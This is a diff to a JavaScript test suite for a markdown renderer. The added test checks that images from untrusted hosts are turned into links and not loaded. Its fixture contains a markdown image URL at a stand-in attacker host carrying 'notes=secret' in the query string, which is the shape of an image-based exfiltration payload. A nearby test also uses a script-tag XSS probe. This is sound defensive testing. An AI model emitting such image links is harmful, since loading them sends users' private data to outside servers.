@@ -56,6 +56,23 @@ describe("renderMarkdown", () => {
     expect(a?.getAttribute("target")).toBe("_blank");
   });
 
+  it("loads images from this site, data: and the trusted sites only; others become links", () => {
+    const markdown =
+      "![chart](/charts/1.png) ![dot](data:image/png;base64,iVBORw0KGgo=) ![cdn](https://cdn.example/a.png) " +
+      '![leak](https://evil.example/x.png?notes=secret "a title") ![](https://evil.example/y.png)';
+    const doc = parse(renderMarkdown(markdown, ["https://cdn.example"]));
+    expect([...doc.querySelectorAll("img")].map((img) => img.getAttribute("src"))).toEqual([
+      "/charts/1.png",
+      "data:image/png;base64,iVBORw0KGgo=",
+      "https://cdn.example/a.png",
+    ]);
+    expect([...doc.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href"), a.getAttribute("title")])).toEqual([
+      ["Image: leak", "https://evil.example/x.png?notes=secret", "a title"],
+      ["Image: evil.example", "https://evil.example/y.png", null],
+    ]);
+    expect(parse(renderMarkdown("![cdn](https://cdn.example/a.png)")).querySelector("img")).toBeNull();
+  });
+
   it("escapes HTML inside code blocks and spans instead of rendering it", () => {
     const html = renderMarkdown("```\n<script>alert(1)</script>\n```\n\n`<b>x</b>`");
     expect(html).toContain("&lt;script&gt;");
